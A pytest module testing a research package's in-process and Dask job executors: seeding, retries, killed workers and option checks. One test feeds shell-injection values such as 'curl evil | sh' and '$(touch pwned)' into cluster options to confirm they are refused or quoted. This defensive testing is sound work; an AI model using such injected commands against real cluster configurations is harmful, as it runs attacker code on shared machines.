"""Running jobs in-process and on Dask: equal results, retries, dead workers, option checks.

The Dask tests share one 2-worker ``LocalCluster`` (started through
:class:`DaskLocal` with ``retries=2``, reached through :class:`DaskScheduler`).
The job functions below run on its worker processes, which need not be able to
import this test module: it is registered with cloudpickle to travel by value.
"""

import logging
import os
import signal
import socket
import subprocess
import sys
import time

import cloudpickle
import numpy as np
import pytest

pytest.importorskip("distributed")

from conftest import TINY, forbid_calls, one_line, spec_file  # noqa: E402

from bayes_attn import cli  # noqa: E402
from bayes_attn.sweep._executors import (  # noqa: E402
    DaskJobqueue,
    DaskLocal,
    DaskScheduler,
    InProcess,
    Job,
    executor_from_options,
    job_seed,
    run_jobs,
)

BASE_SEED = 20240601
THEORY_ONLY_N3 = TINY | {"compare": TINY["compare"] | {"widths": [3], "sample_widths": []}}
cloudpickle.register_pickle_by_value(sys.modules[__name__])


# ------------------------------------------------------------------ job functions (run on the workers)


def probe(job):
    """Deterministic numbers from the job's seed, the seed recomputed here, and this process's settings."""
    from threadpoolctl import threadpool_info

    keys = ("OPENBLAS_NUM_THREADS", "XLA_FLAGS", "JAX_ENABLE_X64", "JAX_COMPILATION_CACHE_DIR", "BAYES_ATTN_TEST")
    return {
        "draw": np.random.default_rng(job.seed).normal(size=4).tolist(),
        "seed": job_seed(BASE_SEED, **job.params),
        "env": {k: os.environ.get(k) for k in keys},
        "openblas_threads": [i["num_threads"] for i in threadpool_info() if i["internal_api"] == "openblas"],
        "pid": os.getpid(),
    }


def flaky(job):
    """Raises for ``bad`` jobs; kills its worker process on the first attempt for ``die_once`` ones,
    and on every attempt for ``die_always`` ones (a marker file counts the attempts)."""
    p = job.params
    if not (p.get("bad") or p.get("die_once") or p.get("die_always")):
        return job.name
    marker = os.path.join(p["folder"], job.name)
    first = not os.path.exists(marker)
    with open(marker, "a") as f:
        f.write(f"{os.getpid()}\n")
    if p.get("bad"):
        raise ValueError(f"bad job {job.name}")
    if first or p.get("die_always"):
        os._exit(1)
    return "recovered"


def jobs_for(folder, **flags):
    """Four jobs; ``flags`` maps a job index to the flag it gets (``bad``, ``die_once``, ``die_always``)."""
    kinds = {int(i): flag for flag, i in flags.items()}
    return [Job.seeded(f"job-{i}", {"i": i, "folder": str(folder), **({kinds[i]: True} if i in kinds else {})},
                       BASE_SEED) for i in range(4)]


@pytest.fixture(scope="module")
def dask_scheduler():
    with DaskLocal(2, retries=2).client() as client:
        client.wait_for_workers(2, timeout=60)
        yield DaskScheduler(client.scheduler.address, retries=2)


@pytest.fixture
def deadline():
    """Fail (instead of hanging) a test that runs past 600 s: a guard against a hang, not a timing check
    (a worker restart takes seconds alone and tens of seconds on a loaded 2-core machine)."""

    def stop(*_):
        raise TimeoutError("test ran past its 600 s deadline")

    old = signal.signal(signal.SIGALRM, stop)
    signal.alarm(600)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, old)


# ------------------------------------------------------------------ seeds and jobs


@pytest.mark.slow
def test_job_seed_is_stable_across_processes_and_differs_between_params():
    params = {"kind": "sample", "width": 100, "temperature": 0.01}
    seed = job_seed(BASE_SEED, **params)
    assert 0 <= seed < 2**31
    assert seed == 113108793  # pinned: changing the recipe changes every result
    code = (f"from bayes_attn.sweep._executors import job_seed; "
            f"print(job_seed({BASE_SEED}, temperature=0.01, width=100, kind='sample'))")
    env = {**os.environ, "PYTHONHASHSEED": "12345"}
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=env, check=True)
    assert int(out.stdout.split()[-1]) == seed
    others = {job_seed(BASE_SEED + 1, **params), job_seed(BASE_SEED, **{**params, "width": 101}),
              job_seed(BASE_SEED, **{**params, "kind": "theory"}), job_seed(BASE_SEED, **{**params, "width": 100.0})}
    assert seed not in others and len(others) == 4
    assert Job.seeded("sample-N100-T0.01", params, BASE_SEED).seed == seed


@pytest.mark.parametrize("name", ["", "a/b", "../x", ".hidden", "a b", 3])
def test_job_name_must_be_filesystem_safe(name):
    with pytest.raises(ValueError, match="name"):
        Job(name, {}, 1)


def test_job_checks_params_and_seed():
    with pytest.raises(ValueError, match="JSON"):
        Job("a", {"x": object()}, 1)
    with pytest.raises(ValueError, match="JSON"):
        job_seed(1, x=float("nan"))
    with pytest.raises(ValueError, match="seed"):
        Job("a", {}, -1)
    with pytest.raises(ValueError, match="seed"):
        Job("a", {}, 1.5)
    params = {"w": 1}
    job = Job("a", params, 1)
    params["w"] = 2
    assert job.params == {"w": 1} and hash(job) == hash(Job("a", {"w": 1}, 1))


# ------------------------------------------------------------------ in this process


def test_in_process_reports_a_failure_and_finishes_the_others(tmp_path, capsys):
    jobs = jobs_for(tmp_path, bad=1)
    outcomes = run_jobs(flaky, jobs)
    assert [o.job for o in outcomes] == jobs
    assert [o.ok for o in outcomes] == [True, False, True, True]
    assert [o.value for o in outcomes] == ["job-0", None, "job-2", "job-3"]
    bad = outcomes[1]
    assert bad.error.startswith("ValueError: bad job job-1") and "in flaky" in bad.error
    assert all(o.attempts == 1 and o.worker is None and o.seconds >= 0 for o in outcomes)
    err = capsys.readouterr().err
    assert "job job-1 failed: ValueError: bad job job-1" in err
    assert "jobs: 4/4 finished, 1 failed" in err
    assert run_jobs(flaky, jobs, progress=False) and capsys.readouterr().err == ""


def test_run_jobs_checks_its_arguments():
    with pytest.raises(ValueError, match="unique"):
        run_jobs(flaky, [Job("a", {}, 1), Job("a", {}, 2)])
    with pytest.raises(ValueError, match="Job"):
        run_jobs(flaky, [{"name": "a"}])
    with pytest.raises(ValueError, match="executor"):
        run_jobs(flaky, [Job("a", {}, 1)], "dask")
    assert run_jobs(flaky, []) == []


def test_in_process_run_does_not_import_dask():
    code = ("import sys, bayes_attn.sweep._executors as e\n"
            "out = e.run_jobs(repr, [e.Job('a', {'k': 1}, 1)], e.InProcess(), progress=False)\n"
            "print(out[0].ok, 'distributed' in sys.modules, 'dask' in sys.modules)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.split() == ["True", "False", "False"]


# ------------------------------------------------------------------ on Dask


@pytest.mark.slow
def test_dask_local_gives_the_in_process_results_with_worker_settings(tmp_path, capfd, deadline, caplog):
    caplog.set_level(logging.INFO, logger="bayes_attn")
    jobs = [Job.seeded(f"sample-N{w}-T0.01", {"kind": "sample", "width": w, "temperature": 0.01}, BASE_SEED)
            for w in (10, 20, 40, 80, 160)]
    here = run_jobs(probe, jobs, InProcess(), progress=False)
    blas = min(2, os.cpu_count() or 1)
    executor = DaskLocal(2, x64=True, compilation_cache=tmp_path / "jax-cache",
                         env={"BAYES_ATTN_TEST": "yes", "OPENBLAS_NUM_THREADS": str(blas)})
    watched = ("OPENBLAS_NUM_THREADS", "MALLOC_TRIM_THRESHOLD_", "XLA_FLAGS", "BAYES_ATTN_TEST")
    before = {k: os.environ.get(k) for k in watched}
    there = run_jobs(probe, jobs, executor)
    assert {k: os.environ.get(k) for k in watched} == before  # this process's environment is back

    assert [(o.job, o.ok) for o in there] == [(j, True) for j in jobs]
    assert [o.value["draw"] for o in there] == [o.value["draw"] for o in here]
    assert [o.value["seed"] for o in there] == [j.seed for j in jobs]  # job_seed computed on the workers
    assert len({o.value["pid"] for o in there}) == 2 and os.getpid() not in {o.value["pid"] for o in there}
    assert all(o.worker.startswith("tcp://") and o.attempts == 1 for o in there)
    env = there[0].value["env"]
    assert {k: v for k, v in env.items() if k != "XLA_FLAGS"} == {k: executor.worker_env().get(k) for k in env
                                                                    if k != "XLA_FLAGS"}
    assert env["BAYES_ATTN_TEST"] == "yes" and env["JAX_ENABLE_X64"] == "1"
    assert env["JAX_COMPILATION_CACHE_DIR"] == str(tmp_path / "jax-cache") and (tmp_path / "jax-cache").is_dir()
    assert env["XLA_FLAGS"] == os.environ.get("XLA_FLAGS")  # XLA's threads untouched: same numbers as here
    assert set(there[0].value["openblas_threads"]) <= {blas}  # set before NumPy loaded on the worker
    assert "jobs: 5/5 finished, 0 failed" in capfd.readouterr().err  # the progress line
    assert "Dask dashboard: http" in caplog.text  # a message, through logging


JAX_SCRIPT = """
import jax  # before Dask starts the workers, as the bayes-attn command does: spawned workers import it too
import jax.numpy as jnp
import bayes_attn.sweep._executors as ex


def settings(job):
    return [bool(jax.config.jax_enable_x64), str(jnp.ones(1).dtype), jax.config.jax_compilation_cache_dir]


if __name__ == "__main__":
    executor = ex.DaskLocal(1, x64=True, compilation_cache="cache")
    out = ex.run_jobs(settings, [ex.Job("a", {}, 1)], executor, progress=False)[0]
    print(out.ok, *out.value, jnp.ones(1).dtype, sep="|")
"""


@pytest.mark.slow
def test_dask_local_workers_see_jax_settings_when_the_main_module_imports_jax(tmp_path, deadline):
    (tmp_path / "script.py").write_text(JAX_SCRIPT)
    env = {k: v for k, v in os.environ.items() if not k.startswith("JAX_")}
    out = subprocess.run([sys.executable, "script.py"], cwd=tmp_path, capture_output=True, text=True, env=env,
                         timeout=100)
    assert out.returncode == 0, out.stderr[-3000:]
    assert out.stdout.strip().split("|") == ["True", "True", "float64", str(tmp_path / "cache"), "float32"]


@pytest.mark.slow
def test_killed_worker_is_replaced_and_the_job_rerun(dask_scheduler, tmp_path, deadline):
    jobs = jobs_for(tmp_path, die_once=2)
    outcomes = run_jobs(flaky, jobs, dask_scheduler, progress=False)
    assert [(o.ok, o.value) for o in outcomes] == [(True, "job-0"), (True, "job-1"), (True, "recovered"),
                                                  (True, "job-3")]
    assert len((tmp_path / "job-2").read_text().split()) == 2  # killed once, then rerun in another process
    assert outcomes[2].attempts >= 2


@pytest.mark.slow
def test_a_raising_job_is_retried_then_reported(dask_scheduler, tmp_path, deadline):
    outcomes = run_jobs(flaky, jobs_for(tmp_path, bad=0), dask_scheduler, progress=False)
    assert [o.ok for o in outcomes] == [False, True, True, True]
    bad = outcomes[0]
    assert bad.value is None and bad.error.startswith("ValueError: bad job job-0") and "in flaky" in bad.error
    assert bad.attempts == 3 and len((tmp_path / "job-0").read_text().split()) == 3  # retries=2
    assert bad.worker.startswith("tcp://")


@pytest.mark.slow
def test_a_job_killing_every_worker_fails_after_bounded_retries(dask_scheduler, tmp_path, capfd, deadline):
    outcomes = run_jobs(flaky, jobs_for(tmp_path, die_always=1), dask_scheduler)
    assert [o.ok for o in outcomes] == [True, False, True, True]
    bad = outcomes[1]
    assert "KilledWorker" in bad.error and bad.value is None
    assert len((tmp_path / "job-1").read_text().split()) == 3  # allowed-failures = retries = 2
    assert bad.attempts == 3  # bounded: the scheduler gave up after retries + 1 deaths
    assert "job job-1 failed: distributed.scheduler.KilledWorker" in capfd.readouterr().err


def test_a_job_function_the_workers_cannot_import_fails_instead_of_hanging(dask_scheduler, tmp_path, deadline):
    (tmp_path / "only_here.py").write_text("def work(job):\n    return job.name\n")
    sys.path.insert(0, str(tmp_path))  # here, not on the workers
    try:
        import only_here

        outcomes = run_jobs(only_here.work, jobs_for(tmp_path)[:2], dask_scheduler, progress=False)
    finally:
        sys.path.remove(str(tmp_path))
        sys.modules.pop("only_here", None)
    assert [o.ok for o in outcomes] == [False, False]
    assert all(o.error.startswith("ModuleNotFoundError: No module named 'only_here'") for o in outcomes)


# ------------------------------------------------------------------ options


def test_executor_from_options():
    assert executor_from_options() == InProcess()
    assert executor_from_options("dask", workers=3) == DaskLocal(3)
    assert executor_from_options("dask", scheduler="tcp://h:8786") == DaskScheduler("tcp://h:8786")
    table = {"class": "SLURMCluster", "workers": 4, "queue": "short", "cores": 1, "memory": "4GB",
             "walltime": "01:00:00", "retries": 1, "resources": {"GPU": 1}}
    ex = executor_from_options("dask", cluster=table)
    assert ex == DaskJobqueue("SLURMCluster", {"queue": "short", "cores": 1, "memory": "4GB", "walltime": "01:00:00"},
                              4, retries=1, resources={"GPU": 1})
    assert executor_from_options("dask", workers=8, cluster=table).workers == 8
    assert table["class"] == "SLURMCluster"  # the caller's table is left alone


@pytest.mark.parametrize(("kwargs", "match"), [
    ({"executor": "slurm"}, "executor must be"),
    ({"workers": 2}, "workers given with executor='local'"),
    ({"scheduler": "tcp://h:1"}, "scheduler given with executor='local'"),
    ({"cluster": {"class": "SLURMCluster", "workers": 1}}, "cluster given with executor='local'"),
    ({"executor": "dask", "workers": 0}, "workers must be at least 1"),
    ({"executor": "dask", "workers": True}, "workers must be an integer"),
    ({"executor": "dask", "scheduler": "tcp://h:1", "cluster": {"class": "SLURMCluster"}}, "exclusive"),
    ({"executor": "dask", "scheduler": "tcp://h:1", "workers": 2}, "workers cannot be given with scheduler"),
    ({"executor": "dask", "cluster": {"workers": 2}}, "needs 'class'"),
    ({"executor": "dask", "cluster": {"class": "SLURMCluster"}}, "needs 'workers'"),
    ({"executor": "dask", "cluster": {"class": "SlurmCluster", "workers": 1}}, "cls .* must be one of"),
    ({"executor": "dask", "cluster": {"class": "PBSCluster", "workers": 1, "partition": "x"}},
     "unknown PBSCluster option"),
    ({"executor": "dask", "cluster": {"class": "SLURMCluster", "workers": 1, "retries": -1}}, "retries"),
    ({"executor": "dask", "cluster": {"class": "SLURMCluster", "workers": 1, "resources": {"GPU": 0}}}, "resources"),
])
def test_executor_from_options_refuses_inconsistent_choices(kwargs, match):
    with pytest.raises(ValueError, match=match):
        executor_from_options(**kwargs)


def test_executor_arguments_are_checked():
    with pytest.raises(ValueError, match="workers"):
        DaskLocal(0)
    with pytest.raises(ValueError, match="threads_per_worker"):
        DaskLocal(1, threads_per_worker=0)
    with pytest.raises(ValueError, match="address"):
        DaskScheduler("")
    with pytest.raises(ValueError, match="retries"):
        DaskScheduler("tcp://h:1", retries=-1)


def test_jobqueue_job_script_declares_gpu_resources_and_environment(deadline):
    pytest.importorskip("dask_jobqueue")
    ex = DaskJobqueue("SLURMCluster", {"cores": 1, "memory": "2GB", "queue": "gpu", "job_cpu": 4,
                                       "job_extra_directives": ["--gres=gpu:1"]},
                      workers=2, resources={"GPU": 1}, env={"JAX_COMPILATION_CACHE_DIR": "/scratch/jax cache"})
    with ex.make_cluster() as cluster:
        script = cluster.job_script()
    assert "--resources GPU=1" in script and "--gres=gpu:1" in script and "#SBATCH -p gpu" in script
    assert "export JAX_COMPILATION_CACHE_DIR='/scratch/jax cache'" in script
    assert "--cpus-per-task=4" in script and "--nthreads 1" in script


def test_cluster_options_cannot_inject_shell_commands():
    pytest.importorskip("dask_jobqueue")
    with pytest.raises(ValueError, match="shell code"):
        DaskJobqueue("SLURMCluster", {"job_script_prologue": ["curl evil | sh"]}, workers=1)
    with pytest.raises(ValueError, match="line break"):
        DaskJobqueue("SLURMCluster", {"queue": "normal\ncurl evil | sh"}, workers=1)
    with pytest.raises(ValueError, match="variable names"):
        DaskJobqueue("SLURMCluster", {}, workers=1, env={"A=1; curl evil | sh; B": "x"})
    with pytest.raises(ValueError, match="unknown SLURMCluster option"):
        DaskJobqueue("SLURMCluster", {"not_an_option": 1}, workers=1)
    ex = DaskJobqueue("SLURMCluster", {"queue": "normal; touch pwned", "account": "$(touch pwned)", "cores": 1,
                                       "memory": "1GB"}, workers=1)
    with ex.make_cluster() as cluster:
        script = cluster.job_script()
    assert "'normal; touch pwned'" in script and "'$(touch pwned)'" in script


def test_cluster_without_its_submit_command_fails_before_computing(tmp_path, capsys, monkeypatch):
    pytest.importorskip("dask_jobqueue")
    from bayes_attn.sweep import _table as table

    monkeypatch.setenv("PATH", str(tmp_path))  # no sbatch here
    forbid_calls(monkeypatch, (table, "sweep"))
    data = THEORY_ONLY_N3 | {"cluster": {"class": "SLURMCluster", "workers": 1, "cores": 1, "memory": "1GB"}}
    assert cli.main(["sweep", str(spec_file(tmp_path, data)), "--out", str(tmp_path / "s"), "--executor",
                     "dask"]) == cli.EXIT_USAGE
    assert "'sbatch', which is not on PATH" in one_line(capsys.readouterr().err)


def test_unreachable_scheduler_fails_fast(tmp_path, capsys, monkeypatch):
    from bayes_attn.sweep import _table as table

    forbid_calls(monkeypatch, (table, "sweep"))
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    t0 = time.perf_counter()
    assert cli.main(["sweep", str(spec_file(tmp_path, THEORY_ONLY_N3)), "--out", str(tmp_path / "s"), "--executor",
                     "dask", "--scheduler", f"tcp://127.0.0.1:{port}"]) == cli.EXIT_USAGE
    assert time.perf_counter() - t0 < 10
    assert "cannot be reached" in one_line(capsys.readouterr().err)


def test_dask_executor_without_dask_installed_fails_before_any_job(monkeypatch):
    """Where the dask extra is not installed (``make demo`` does not install it), a Dask executor is a one-line
    usage error naming the extra, before anything runs; the in-process executor needs no Dask."""
    import importlib.util

    from bayes_attn.sweep._executors import check_reachable

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "distributed" else real(name, *a))
    for executor in (DaskLocal(2), DaskScheduler("tcp://h:8786")):
        with pytest.raises(ValueError, match=r"needs the dask extra \(missing: distributed\).*bayes_attn\[dask\]"):
            check_reachable(executor)
    check_reachable(InProcess())
